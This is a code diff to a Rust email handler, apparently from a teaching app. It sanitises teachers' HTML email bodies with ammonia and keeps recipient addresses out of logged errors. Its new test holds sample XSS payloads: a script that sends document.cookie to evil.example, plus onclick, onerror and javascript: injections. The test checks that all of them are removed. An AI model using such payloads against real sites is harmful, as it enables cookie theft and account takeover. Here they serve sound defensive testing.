@@ -19,6 +19,13 @@
 //! - the `Message-ID` header is derived from the message id, so the rare resend after a crash
 //!   between sending and recording is one message to mail systems that deduplicate.
 //!
+//! The body is HTML (teachers format their emails, often an AI draft) and is sanitised here,
+//! where it leaves, with `ammonia`: scripts, event handlers (`onerror`...), `javascript:`
+//! links, forms, frames and styles are removed, the formatting stays. Sanitising at the last
+//! step covers every way a body gets here (the API, an AI draft, a resubmitted dead letter,
+//! emails queued before this existed). Plain text only was the alternative; it was not taken
+//! because the original sent HTML and teachers' emails rely on its formatting.
+//!
 //! Transport security follows the port unless configured: 465 is TLS from the first byte,
 //! anything else (Brevo's 587) must upgrade with STARTTLS before credentials are sent.
 //! `none` exists for local relays and tests only.
@@ -165,11 +172,9 @@ impl SendEmailHandler {
             .trim()
             .parse::<lettre::Address>()
             .map(|a| Mailbox::new(None, a))
+            // Not the address itself: the reason is kept with the dead letter and logged.
             .map_err(|e| {
-                HandlerError::Reject(format!(
-                    "recipient `{}` is not an email address: {e}",
-                    job.recipient_email
-                ))
+                HandlerError::Reject(format!("the recipient is not an email address: {e}"))
             })?;
         let subject = job.subject.trim();
         if subject.is_empty() || subject.chars().count() > MAX_SUBJECT_CHARS {
@@ -181,6 +186,12 @@ impl SendEmailHandler {
             return Err(HandlerError::Reject(format!(
                 "a body has 1 to {MAX_BODY_BYTES} bytes"
             )));
+        }
+        let body = ammonia::clean(&job.body);
+        if body.trim().is_empty() {
+            return Err(HandlerError::Reject(
+                "nothing of the body is left once sanitised".into(),
+            ));
         }
         // Only characters a Message-ID may hold: a bus id is a UUID or similar.
         let local: String = message_key
@@ -194,7 +205,7 @@ impl SendEmailHandler {
             .message_id(Some(format!("<{local}@{}>", self.domain)))
             .date_now()
             .header(ContentType::TEXT_HTML)
-            .body(job.body.clone())
+            .body(body)
             .map_err(|e| HandlerError::Reject(format!("the message cannot be built: {e}")))
     }
 }
@@ -270,6 +281,39 @@ mod tests {
         assert!(text.contains("Message-ID: <0b1c-42@teachin.app>"), "{text}");
         assert!(text.contains("Content-Type: text/html"), "{text}");
         assert!(text.contains("<p>Read chapter 2.</p>"), "{text}");
+    }
+
+    #[tokio::test]
+    async fn the_body_is_sanitised_and_keeps_its_formatting() {
+        let handler = SendEmailHandler::from_settings(&settings()).unwrap();
+        let hostile = SendEmail {
+            body: "<p onclick=\"steal()\">Read <b>chapter 2</b>.</p>\
+                   <script>fetch('https://evil.example/?c='+document.cookie)</script>\
+                   <img src=\"x\" onerror=\"alert(1)\">\
+                   <a href=\"javascript:alert(2)\">here</a>"
+                .into(),
+            ..job()
+        };
+        let message = handler.compose(&hostile, "id").unwrap();
+        let text = String::from_utf8(message.formatted()).unwrap();
+        for gone in [
+            "<script",
+            "evil.example",
+            "onerror",
+            "onclick",
+            "javascript:",
+        ] {
+            assert!(!text.contains(gone), "{gone} survived: {text}");
+        }
+        assert!(text.contains("<b>chapter 2</b>"), "{text}");
+        let only_script = SendEmail {
+            body: "<script>alert(1)</script>".into(),
+            ..job()
+        };
+        assert!(matches!(
+            handler.compose(&only_script, "id"),
+            Err(HandlerError::Reject(_))
+        ));
     }
 
     #[tokio::test]
